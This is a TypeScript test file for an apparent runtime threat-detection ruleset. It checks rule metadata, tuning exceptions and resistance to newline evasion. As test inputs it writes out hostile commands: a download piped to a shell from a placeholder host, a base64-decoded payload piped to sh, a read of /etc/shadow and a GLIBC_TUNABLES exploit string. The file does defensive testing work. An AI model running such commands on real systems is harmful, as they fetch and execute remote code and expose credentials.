/**
 * The bundled ruleset, without root: it loads clean (`vigil rules check`), its replay cases pass
 * (`vigil rules test`), and every rule carries what the catalogue promises: a MITRE tactic tag and
 * technique id, an exceptions entry, an attack and a benign replay case, and a live test.
 */
import assert from 'node:assert/strict';
import { readdirSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { test } from 'node:test';
import { run as rulesCheck } from '../../src/cli/rules-check.js';
import { run as rulesTest } from '../../src/cli/rules-test.js';
import { bundledRulesDir, packageRoot } from '../../src/config/paths.js';
import { loadRuleset } from '../../src/engine/load-ruleset.js';
import { readTestCases } from '../../src/engine/rule-tests/cases.js';
import { sampleEvent } from '../../src/engine/rule-tests/sample-event.js';
import type { Ruleset } from '../../src/engine/ruleset.js';
import type { VigilEvent } from '../../src/event/types.js';
import { bundledRules } from './support.js';

const rulesDir = bundledRulesDir();

test('vigil rules check rules/: no errors, no warnings, at least 60 rules', async () => {
  const out: string[] = [];
  const err: string[] = [];
  const code = await rulesCheck({ paths: [rulesDir], out: (l) => out.push(l), err: (l) => err.push(l) });
  assert.equal(code, 0, err.join('\n'));
  assert.deepEqual(
    err.filter((l) => /warning/i.test(l)),
    [],
  );
  assert.ok(bundledRules().enabledRules.length >= 60);
});

test('vigil rules test rules/: every replay case passes', async () => {
  const out: string[] = [];
  const err: string[] = [];
  const code = await rulesTest({ paths: [rulesDir], out: (l) => out.push(l), err: (l) => err.push(l) });
  assert.equal(code, 0, [...out.filter((l) => !l.startsWith('ok')), ...err].join('\n'));
});

test('every rule: MITRE tactic and technique tags, an exceptions entry, replay and live cases', () => {
  const rules = bundledRules().info.rules;
  const cases = readdirSync(rulesDir)
    .filter((n) => n.endsWith('.tests.yaml'))
    .flatMap((n) => readTestCases(join(rulesDir, n)));
  const liveDir = join(packageRoot(), 'test/rules');
  const liveText = readdirSync(liveDir)
    .filter((n) => n.endsWith('.test.ts'))
    .map((n) => readFileSync(join(liveDir, n), 'utf8'))
    .join('\n');
  const sources = new Map<string, string>();
  for (const r of rules) {
    assert.ok(
      r.tags.some((t) => t.startsWith('mitre_')),
      `${r.name}: a mitre_<tactic> tag`,
    );
    assert.ok(
      r.tags.some((t) => /^T\d{4}(\.\d{3})?$/.test(t)),
      `${r.name}: a technique id tag`,
    );
    const text = sources.get(r.file) ?? readFileSync(r.file, 'utf8');
    sources.set(r.file, text);
    const body = text.slice(text.indexOf(`- rule: ${r.name}\n`)).split('\n- ')[0];
    assert.match(body, /\n {2}exceptions:\n/, `${r.name}: an exceptions entry`);
    assert.ok(
      cases.some((c) => c.alerts.some((a) => a.rule === r.name)),
      `${r.name}: a replay case where it fires`,
    );
    assert.ok(liveText.includes(`'${r.name}'`) || liveText.includes(`"${r.name}"`), `${r.name}: a live test`);
  }
});

test('docs/ruleset.md tuning examples (test/rules/fixtures/50-local.yaml) silence exactly their case', () => {
  const tuned = loadRuleset([rulesDir, join(packageRoot(), 'test/rules/fixtures/50-local.yaml')], 'all');
  const fired = (rs: Ruleset, ev: VigilEvent): string[] => rs.evaluate(ev).map((r) => r.name);
  const shadow = (exe: string): VigilEvent =>
    sampleEvent({
      type: 'openat',
      ret: 3,
      proc: { exe, args: [exe.slice(exe.lastIndexOf('/') + 1), '/etc/shadow'] },
      args: { fd: 3, name: '/etc/shadow', flags: 'O_RDONLY' },
      rawargs: { flags: 0 },
      fd: { num: 3, type: 'file', name: '/etc/shadow' },
    });
  // 1. the exception row
  assert.ok(fired(bundledRules(), shadow('/opt/backup/backup-agent')).includes('Read shadow file'));
  assert.ok(!fired(tuned, shadow('/opt/backup/backup-agent')).includes('Read shadow file'));
  assert.ok(fired(tuned, shadow('/usr/bin/cat')).includes('Read shadow file'), 'others still alert');
  // 2. the user_known macro
  const cron = (exe: string, name: string): VigilEvent =>
    sampleEvent({
      type: 'openat',
      ret: 3,
      proc: { exe },
      args: { fd: 3, name, flags: 'O_WRONLY|O_CREAT|O_TRUNC' },
      rawargs: { flags: 0o1101 },
      fd: { num: 3, type: 'file', name },
    });
  assert.ok(
    fired(bundledRules(), cron('/usr/sbin/deployd', '/etc/cron.d/deployd-x')).includes(
      'Cron job created or modified',
    ),
  );
  assert.ok(
    !fired(tuned, cron('/usr/sbin/deployd', '/etc/cron.d/deployd-x')).includes(
      'Cron job created or modified',
    ),
  );
  assert.ok(
    fired(tuned, cron('/usr/sbin/deployd', '/etc/cron.d/other')).includes('Cron job created or modified'),
  );
  // 3. the list extension
  const shell = sampleEvent({
    type: 'execve',
    proc: { exe: '/usr/bin/bash', args: ['bash', '-c', 'id'], ancestors: [{ exe: '/opt/myhttpd' }] },
  });
  assert.ok(!fired(bundledRules(), shell).includes('Shell spawned by a web server'));
  assert.ok(fired(tuned, shell).includes('Shell spawned by a web server'));
  // 4. the disabled rule
  assert.ok(!tuned.enabledRules.some((r) => r.name === 'Kernel parameter changed'));
});

test('a newline in a value the attacker controls does not slip past the bundled regex rules', () => {
  const fired = (ev: VigilEvent): string[] =>
    bundledRules()
      .evaluate(ev)
      .map((r) => r.name);
  const exec = (exe: string, args: string[], env: string[] = []): VigilEvent =>
    sampleEvent({ type: 'execve', proc: { exe, args, env, ancestors: [{ exe: '/usr/bin/bash' }] } });
  // `.` stops at a newline unless the pattern says (?s): each of these hid behind one before.
  const cases: [VigilEvent, string][] = [
    [exec('/usr/bin/bash', ['bash', '-c', '\ncurl -s http://x/i.sh | sh']), 'Download piped to a shell'],
    [
      exec('/usr/bin/bash', ['bash', '-c', '\necho eA== | base64 -d | sh']),
      'Decoded payload piped to a shell',
    ],
    [exec('/tmp/a\nb/.hidden', ['.hidden']), 'Execution from a hidden temp directory'],
    [exec('/usr/bin/true', ['true'], ['GLIBC_TUNABLES=\nx=y=z']), 'GLIBC_TUNABLES exploit attempt'],
  ];
  for (const [ev, rule] of cases) assert.ok(fired(ev).includes(rule), `${rule}: ${ev.proc.cmdline}`);
});
